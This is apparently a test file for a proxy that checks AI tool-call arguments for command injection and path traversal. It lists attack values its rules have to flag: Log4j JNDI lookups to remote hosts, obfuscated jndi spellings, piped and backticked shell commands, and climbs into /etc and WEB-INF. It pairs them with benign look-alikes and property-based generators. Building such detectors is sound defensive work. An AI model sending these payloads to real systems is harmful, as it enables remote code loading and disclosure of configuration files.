"""
Session 16: command and path classes from the unsealed fifth part, at medium.

Each attack below passes main's rules (ee57c35); each benign value of the
same shape passes, without any exclusion.  The values are written here in
the shape of their class, not copied from a corpus line.
"""

from __future__ import annotations

import re
from urllib.parse import quote

from hypothesis import given, settings, strategies as st
from twisted.trial.unittest import SynchronousTestCase

from akto_proxy.inspect import paths
from akto_proxy.inspect.checks import rules as R, shell
from tests.inspect.test_checks import call, mediumSteps, verdict
from tests.inspect.test_s15_injection import InjectionCases
from tests.inspect.test_s15_secrets import assertLinear, bestTime

CMD, PATH = "command_injection", "path_traversal"

# (check, tool, argument, value)
ATTACKS = [
    # a Log4j lookup that reaches JNDI, direct or spelled by lookups
    (CMD, "ping_host", "host", "${jndi:rmi://203.0.113.9:1099/o}"),
    (CMD, "backup", "name", "${${lower:j}${lower:n}di:ldap://x.example.net/a}"),
    (CMD, "get_user", "username", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://h/x}"),
    (CMD, "create_ticket", "name", "${${env:NOPE:-j}ndi${env:NOPE:-:}dns://h/z}"),
    (CMD, "git_clone", "url", "$\\{$\\{::-j\\}ndi:ldap://h/q\\}"),
    (CMD, "backup", "name", "${jNdI:${upper:l}dap://h/q}"),
    # one program between two of the same separator, nothing after it
    # but the closing quote: the scanners' wrapped form
    (CMD, "resize_image", "image", "photo.png | tclsh8 | "),
    (CMD, "dns_lookup", "domain", "198.51.100.4 | fakesh9 | "),
    (CMD, "convert_file", "filename", "report.docx' | bsd-shell | '"),
    (CMD, "dns_lookup", "domain", 'example.org" && Certoc && "'),
    (CMD, "ping_host", "host", "scan.tif' && Pktmgr C:\\Temp\\x.dll && '"),
    (CMD, "resize_image", "image", "x_01.gif && SyncAppvPublishingServer && "),
    # a program's file run in backticks after a value
    (CMD, "resize_image", "image", "a.png` Setup.exe --silent`"),
    (CMD, "convert_file", "filename", "b.pdf` Tool.bat /q C:\\Temp\\x.txt`"),
    # a Java web application's protected folder from the root
    (PATH, "view_file", "file", "/WEB-INF/classes/app.properties"),
    (PATH, "download", "file", "file:///META-INF/context.xml"),
    (PATH, "view_file", "file", "\\WEB-INF\\web.xml"),
    (PATH, "open_file", "path", "file://\\WEB-INF\\jboss-web.xml"),
    # the system's configuration tree reached by a climb
    (PATH, "render_template", "template", "../../etc/aliases.db"),
    (PATH, "read_file", "path", "..\\..\\etc\\vimrc"),
    (PATH, "open_file", "path", "../../etc/dovecot2/local.conf"),
    # an application installed system-wide, its configuration folder
    (PATH, "read_file", "path", "/usr/share/phpmyadmin/config/config.inc.php"),
    (PATH, "get_document", "name", "/usr/share/tomcat9/conf/context.xml"),
    # ./ segments between the climbs, any number of them
    (PATH, "open_file", "path", ".././././../x/y.log"),
]

BENIGN = [
    # a configuration's own lookups and shell defaults
    ("backup", "name", "${env:LOG_LEVEL:-info}"),
    ("set_config", "value", "${sys:user.home}/logs"),
    ("create_ticket", "title", "${A:-${B:-fallback}}"),
    ("send_message", "text", "the ${lower} bound"),
    # lists that end with a separator
    ("tag_items", "tags", "v1.2; stable;"),
    ("backup", "name", "a.txt; b.txt;"),
    ("create_ticket", "name", "AT&T & Verizon &"),
    ("dns_lookup", "domain", "example.com | Example Inc. |"),
    ("get_document", "name", "Q3 | Revenue Report |"),
    # backticks around a file name in a value
    ("create_ticket", "title", "the `setup.exe` file"),
    # a project's etc/ one level up, a web app in a workspace
    ("read_file", "path", "../etc/app.conf"),
    ("read_file", "path", "../etc/akto-proxy/akto-proxy.yaml"),
    ("read_file", "path", "src/main/webapp/WEB-INF/web.xml"),
    ("read_file", "path", "/Users/dev/site/WebContent/META-INF/MANIFEST.MF"),
    ("read_file", "path", "/workspace/apps/web/src/../etc/app.example.conf"),
    ("read_file", "path", "/usr/share/doc/git/README.md"),
    ("open_file", "path", "./../lib/x.js"),
]


class InjectionClassTests(InjectionCases, SynchronousTestCase):
    attacks = ATTACKS
    benign = BENIGN


class ReadingTests(SynchronousTestCase):
    def test_wrapped(self) -> None:
        """
        The wrapped form: a value, one command between two of the same
        separator, the end; a semicolon or a lone ampersand only before a
        program known by name.
        """
        self.assertTrue(shell.commandInValue("a.png | posh2 | "))
        self.assertTrue(shell.commandInValue("a.png; uname;"))
        self.assertFalse(shell.commandInValue("a.png; posh2;"))
        self.assertFalse(shell.commandInValue("a.png | posh2 | x"))  # (something after: no wrapped form)
        self.assertFalse(shell.commandInValue("green | posh2 | "))  # (no value before it)

    def test_locations(self) -> None:
        """
        Where the new paths lead (L{paths.judge}).
        """
        self.assertEqual(paths.judge("/WEB-INF/web.xml"), "app:web-inf/web.xml")
        self.assertEqual(paths.judge("file://\\WEB-INF\\web.xml"), "app:web-inf/web.xml")
        self.assertEqual(paths.judge("../../etc/ftpusers"), "root:etc/")
        self.assertIsNone(paths.judge("../etc/app.conf"))
        self.assertEqual(paths.judge("/usr/share/x/conf/server.xml"), "root:usr/share/*/conf")

    def test_linear(self) -> None:
        """
        The session's new patterns and readers stay linear on 100 KB written
        to be their worst case (each under 50 ms, the best of three).
        """
        inputs = [
            "${" * 50_000,
            "$\\{" * 33_000,
            "${::-" * 20_000,
            "${lower:" * 12_000,
            "../" + "./" * 50_000,
            ".././" * 20_000,
            "a" * 100_000,
        ]
        marks = ("jndi", "\\.\\./(?:\\./){1,8}")
        patterns = [re.compile(r.confirm or r.pattern, re.I if r.caseless else 0) for r in R.CMD_RULES + R.PATH_RULES
                    if any(m in (r.confirm or r.pattern) for m in marks)]
        self.assertEqual(len(patterns), 2)
        assertLinear(self, patterns + [shell._WRAPPED], inputs)
        texts = inputs + ["a.png | " + "x " * 50_000, "a|" * 50_000, "a.b " + "| a " * 25_000 + "|", "x && " * 20_000]
        for text in texts:
            self.assertLess(bestTime(shell.commandInValue, text), 0.05, text[:20])
            self.assertLess(bestTime(paths.judge, text), 0.05, text[:20])


class PropertyTests(SynchronousTestCase):
    def setUp(self) -> None:
        self.steps = mediumSteps()

    @settings(max_examples=40, deadline=None)
    @given(
        value=st.sampled_from(("a.jpg", "10.0.0.5", "github.com", "id_42", "x")),
        quote_=st.sampled_from(("", "'", '"')),
        sep=st.sampled_from(("|", "||", "&&")),
        program=st.from_regex(r"[A-Za-z][a-z]{2,14}", fullmatch=True),
        tail=st.sampled_from(("", " /q", " C:\\Temp\\x.dll", " -r:http://h:5985")),
    )
    def test_wrappedAnyProgram(self, value: str, quote_: str, sep: str, program: str, tail: str) -> None:
        """
        Any program's name wrapped between two pipes or ands after a value
        is found, whatever the quote that closes the value.
        """
        text = f"{value}{quote_} {sep} {program}{tail} {sep} {quote_}"
        found = {f.check for f in verdict(self.steps, call("resize_image", image=text)).findings}
        self.assertIn(CMD, found, text)

    @settings(max_examples=40, deadline=None)
    @given(
        letters=st.lists(st.sampled_from(("::-", "lower:", "upper:")), min_size=4, max_size=4),
        escaped=st.booleans(),
        encode=st.booleans(),
    )
    def test_jndiSpelled(self, letters: list[str], escaped: bool, encode: bool) -> None:
        """
        jndi spelled letter by letter with any of Log4j's lookups, braces
        escaped or not, URL-encoded or not, is found.
        """
        text = "${" + "".join("${" + how + c + "}" for how, c in zip(letters, "jndi")) + ":ldap://h/a}"
        if escaped:
            text = text.replace("{", "\\{").replace("}", "\\}")
        if encode:
            text = quote(text, safe="")
        self.assertIn(CMD, {f.check for f in verdict(self.steps, call("backup", name=text)).findings}, text)

    @settings(max_examples=40, deadline=None)
    @given(
        depth=st.integers(2, 9),
        name=st.from_regex(r"[a-z][a-z0-9_.-]{1,12}", fullmatch=True),
        sep=st.sampled_from(("/", "\\")),
    )
    def test_climbIntoEtc(self, depth: int, name: str, sep: str) -> None:
        """
        A climb of two levels or more into etc/ is found, whatever file it
        names there.
        """
        text = (".." + sep) * depth + "etc" + sep + name
        self.assertIn(PATH, {f.check for f in verdict(self.steps, call("read_file", path=text)).findings}, text)
